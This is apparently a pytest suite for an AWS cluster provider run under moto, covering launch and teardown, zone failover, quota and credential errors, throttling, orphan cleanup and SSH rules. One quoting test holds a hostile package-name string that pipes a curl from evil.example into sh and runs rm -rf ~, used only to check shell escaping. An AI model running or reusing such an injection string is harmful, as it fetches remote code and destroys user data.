"""infra/aws.py under moto: launch/teardown, security rules, user-data, failover errors, orphans."""
from __future__ import annotations

import http.server
import shlex
import subprocess
import threading

import boto3
import pytest

from infra.vm import network as vm_network
from infra.aws.provider import AwsProvider
from infra.base import (BootstrapConfig, CapacityError, Cluster, CredentialsError, Node, ProvisionError,
                        QuotaError)
from tests.support.aws_faults import (SimulatedCrash, crash_after, fail_operation, fail_run_instances,
                                      throttle_operation)
from tests.support.aws_moto import (  # noqa: F401 (fixtures)
    REGION, SSH_CIDR, assert_nothing_left, aws_env, check_launched_cluster, live_instances, make_provider,
    make_request, moto, offer, session, user_data)


@pytest.mark.parametrize("spot,nodes", [(False, 1), (True, 1), (False, 3), (True, 3)])
def test_launch_and_terminate_leaves_nothing(session, spot, nodes):
    provider, ec2 = make_provider(session), session.client("ec2")
    request = make_request(f"c-{int(spot)}-{nodes}", spot=spot, nodes=nodes)
    cluster = provider.launch(request)
    check_launched_cluster(ec2, cluster, request)
    assert [s.status for s in provider.status(cluster)] == ["running"] * nodes

    provider.terminate(cluster)
    assert_nothing_left(ec2, request.cluster_id)
    assert {s.status for s in provider.status(cluster)} == {"terminated"}
    provider.terminate(cluster)  # safe to call twice
    assert provider.list_owned() == []


def test_relaunch_of_the_same_cluster_returns_it_instead_of_starting_more(session):
    provider, ec2 = make_provider(session), session.client("ec2")
    first = provider.launch(make_request("same", nodes=2))
    again = AwsProvider(region=REGION, session=session, ssh_cidr=SSH_CIDR, poll_interval_s=0.01).launch(
        make_request("same", nodes=2))
    assert [n.node_id for n in again.nodes] == [n.node_id for n in first.nodes]
    assert again.head.node_id == first.head.node_id
    assert len(live_instances(ec2, "same")) == 2
    provider.terminate(again)
    assert_nothing_left(ec2, "same")


def test_user_data_quotes_hostile_values_and_parses_as_bash(session):
    nasty = "torch; curl evil.example | sh #'\"$(rm -rf ~)`id`"
    request = make_request("quoted", bootstrap=BootstrapConfig(ray_version="2.60.0", python_packages=[nasty]))
    cluster = make_provider(session).launch(request)
    script = user_data(session.client("ec2"), cluster.head.node_id)
    pip_line = next(line for line in script.splitlines() if line.startswith("uv_install ") and "ray[" in line)
    assert nasty in shlex.split(pip_line)  # one argument, exactly as given
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0


def test_capacity_error_in_first_zone_launches_in_the_next(session):
    log = fail_run_instances(session, "InsufficientInstanceCapacity", zones={"us-east-1a"})
    provider, ec2 = make_provider(session), session.client("ec2")
    cluster = provider.launch(make_request("ice", spot=True, nodes=2))
    assert log.injected == 1 and cluster.zone == "us-east-1b"
    assert {i["Placement"]["AvailabilityZone"] for i in live_instances(ec2)} == {"us-east-1b"}
    provider.terminate(cluster)
    assert_nothing_left(ec2, "ice")


def test_worker_capacity_error_moves_the_whole_cluster_and_drops_the_stranded_head(session):
    fail_run_instances(session, "InsufficientInstanceCapacity", zones={"us-east-1a"}, after=1)
    provider, ec2 = make_provider(session), session.client("ec2")
    cluster = provider.launch(make_request("moved", nodes=3))
    assert cluster.zone == "us-east-1b" and len(live_instances(ec2)) == 3
    assert {n.zone for n in cluster.nodes} == {"us-east-1b"}


@pytest.mark.parametrize("code", ["InsufficientInstanceCapacity", "SpotMaxPriceTooLow", "Unsupported"])
def test_no_capacity_in_any_zone_raises_capacity_error_and_cleans_up(session, code):
    log = fail_run_instances(session, code)
    provider, ec2 = make_provider(session), session.client("ec2")
    with pytest.raises(CapacityError) as err:
        provider.launch(make_request("full", spot=True))
    zones = [z["ZoneName"] for z in ec2.describe_availability_zones()["AvailabilityZones"]]
    assert log.injected == len(zones) and err.value.region == REGION and err.value.scope == "offer"
    assert code in err.value.message and "g4dn.xlarge" in err.value.message
    assert_nothing_left(ec2, "full")


@pytest.mark.parametrize("code", ["InstanceLimitExceeded", "VcpuLimitExceeded", "MaxSpotInstanceCountExceeded"])
def test_quota_error_blocks_its_bucket_in_the_region_and_cleans_up(session, code):
    """(tests/integration/test_aws_errors.py has each code with EC2's own error body and the scope it blocks)"""
    fail_run_instances(session, code)
    provider, ec2 = make_provider(session), session.client("ec2")
    with pytest.raises(QuotaError) as err:
        provider.launch(make_request("quota", nodes=2))
    assert err.value.scope == "quota" and err.value.region == REGION
    assert (err.value.quota.region, err.value.quota.families) == (REGION, ("g", "gr", "vt"))
    assert_nothing_left(ec2, "quota")


def test_quota_hit_by_the_workers_removes_the_head_too(session):
    fail_run_instances(session, "VcpuLimitExceeded", after=1)
    provider, ec2 = make_provider(session), session.client("ec2")
    with pytest.raises(QuotaError):
        provider.launch(make_request("half", nodes=3))
    assert_nothing_left(ec2, "half")


def test_missing_credentials_is_one_clear_line(aws_env, monkeypatch, tmp_path):
    for var in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.delenv(var)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
    provider = AwsProvider(region=REGION, ssh_cidr=SSH_CIDR)
    with pytest.raises(CredentialsError) as err:
        provider.launch(make_request("nocreds"))
    assert err.value.scope == "cloud" and "\n" not in err.value.message
    assert "aws configure" in err.value.message and "AWS_ACCESS_KEY_ID" in err.value.message
    with pytest.raises(CredentialsError):
        provider.list_owned()


def test_refused_credentials_map_to_credentials_error(session):
    fail_operation(session, "DescribeInstances", "AuthFailure")
    with pytest.raises(CredentialsError) as err:
        make_provider(session).launch(make_request("refused"))
    assert "aws configure" in err.value.message
    assert live_instances(boto3.client("ec2", region_name=REGION)) == []  # a client without the fault


def test_missing_region_is_a_credentials_error(aws_env, monkeypatch):
    monkeypatch.delenv("AWS_DEFAULT_REGION")
    monkeypatch.setenv("AWS_CONFIG_FILE", "/nonexistent")
    cluster = Cluster(cluster_id="x", provider="aws", region="", zone="", instance_type="g4dn.xlarge",
                      spot=False, price_per_hour=0.5, nodes=[Node("i-0123456789abcdef0")])
    with pytest.raises(CredentialsError) as err:
        AwsProvider().status(cluster)
    assert "region" in err.value.message and "aws configure" in err.value.message


def test_throttled_requests_are_retried_with_backoff(session):
    log = throttle_operation(session, "DescribeAvailabilityZones", times=2)
    provider = make_provider(session)
    cluster = provider.launch(make_request("throttled"))
    assert [hit for _, hit in log.calls] == [True, True, False]
    provider.terminate(cluster)


def test_throttling_that_never_ends_becomes_provision_error(session):
    throttle_operation(session, "DescribeAvailabilityZones", times=100)
    provider = AwsProvider(region=REGION, session=session, ssh_cidr=SSH_CIDR, poll_interval_s=0.01,
                           max_attempts=2)
    with pytest.raises(ProvisionError, match="RequestLimitExceeded"):
        provider.launch(make_request("throttled"))
    assert_nothing_left(session.client("ec2"), "throttled")


def test_crash_right_after_run_instances_is_found_and_removed_as_an_orphan(session):
    crash_after(session, "RunInstances")
    ec2 = session.client("ec2")
    with pytest.raises(SimulatedCrash):
        make_provider(session).launch(make_request("crashed", spot=True, nodes=2))
    assert len(live_instances(ec2, "crashed")) == 1  # the head got started, then dlrun died

    fresh = make_provider(boto3.Session(region_name=REGION))  # a new dlrun process
    (orphan,) = fresh.list_owned()
    assert (orphan.cluster_id, orphan.job_id, orphan.spot) == ("crashed", "job-crashed", True)
    assert len(orphan.nodes) == 1 and orphan.price_per_hour == offer().spot_price_per_hour
    fresh.terminate(orphan)
    assert_nothing_left(ec2, "crashed")
    assert fresh.list_owned() == []


def test_leftover_group_and_key_without_instances_are_listed_and_removed(session):
    crash_after(session, "ImportKeyPair")
    ec2 = session.client("ec2")
    with pytest.raises(SimulatedCrash):
        make_provider(session).launch(make_request("early"))
    fresh = make_provider(boto3.Session(region_name=REGION))
    (orphan,) = fresh.list_owned()
    assert orphan.cluster_id == "early" and orphan.nodes == [] and orphan.job_id == "job-early"
    fresh.terminate(orphan)
    assert_nothing_left(ec2, "early")


def test_list_owned_searches_the_catalog_regions(session):
    provider = AwsProvider(region=REGION, session=session, ssh_cidr=SSH_CIDR, poll_interval_s=0.01)
    cluster = provider.launch(make_request("west", region="us-west-2"))
    owned = {c.cluster_id: c for c in provider.list_owned()}
    assert set(owned) == {"west"} and owned["west"].region == "us-west-2"
    provider.terminate(owned["west"])
    assert_nothing_left(session.client("ec2", region_name="us-west-2"), "west")
    assert cluster.region == "us-west-2"


def test_spot_node_terminated_by_aws_is_preempted_and_on_demand_is_gone(session):
    provider, ec2 = make_provider(session), session.client("ec2")
    spot = provider.launch(make_request("spotty", spot=True, nodes=2))
    ondemand = provider.launch(make_request("steady", nodes=1))
    ec2.terminate_instances(InstanceIds=[spot.nodes[1].node_id, ondemand.nodes[0].node_id])  # not via dlrun
    states = provider.status(spot)
    assert [s.status for s in states] == ["running", "preempted"]
    assert provider.status(ondemand)[0].status == "gone"
    provider.terminate(spot)
    assert [s.status for s in provider.status(spot)] == ["terminated", "preempted"]
    provider.terminate(ondemand)
    assert_nothing_left(ec2, "spotty")


def test_ssh_open_to_the_world_is_refused(session):
    with pytest.raises(ProvisionError, match="whole internet"):
        make_provider(session, ssh_cidr="0.0.0.0/0").launch(make_request("world"))
    assert_nothing_left(session.client("ec2"), "world")


def test_caller_address_unknown_is_a_clear_error(session, monkeypatch):
    monkeypatch.setattr(vm_network, "CHECKIP_URLS", ("http://127.0.0.1:9/",))
    monkeypatch.delenv("DLRUN_SSH_CIDR", raising=False)
    with pytest.raises(ProvisionError, match="DLRUN_SSH_CIDR"):
        make_provider(session, ssh_cidr=None).launch(make_request("noip"))
    assert_nothing_left(session.client("ec2"), "noip")


def test_caller_address_is_discovered_when_not_given(session, monkeypatch):
    class CheckIp(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"198.51.100.23\n")

        def log_message(self, *a):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), CheckIp)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setattr(vm_network, "CHECKIP_URLS", (f"http://127.0.0.1:{server.server_port}/",))
    monkeypatch.delenv("DLRUN_SSH_CIDR", raising=False)
    try:
        make_provider(session, ssh_cidr=None).launch(make_request("found"))
    finally:
        server.shutdown()
    (group,) = session.client("ec2").describe_security_groups(GroupNames=["dlrun-found"])["SecurityGroups"]
    ssh_rules = [r for r in group["IpPermissions"] if r.get("IpRanges")]
    assert [r["CidrIp"] for r in ssh_rules[0]["IpRanges"]] == ["198.51.100.23/32"]


def test_image_override_by_id_and_by_name(session):
    ec2 = session.client("ec2")
    base = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    seed = ec2.run_instances(ImageId=base, MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    mine = ec2.create_image(InstanceId=seed, Name="team-pytorch-ubuntu-2024")["ImageId"]
    ec2.terminate_instances(InstanceIds=[seed])
    provider = make_provider(session)
    by_id = provider.launch(make_request("by-id", image=mine))
    by_name = provider.launch(make_request("by-name", image="team-pytorch-*"))
    assert by_id.extra["ami"] == by_name.extra["ami"] == mine
    default = provider.launch(make_request("default"))
    (img,) = ec2.describe_images(ImageIds=[default.extra["ami"]])["Images"]
    assert img["Name"].startswith("Deep Learning") and default.ssh_user == "ubuntu"
    with pytest.raises(ProvisionError, match="no AMI"):
        provider.launch(make_request("missing", image="no-such-image-*"))
    assert_nothing_left(ec2, "missing")
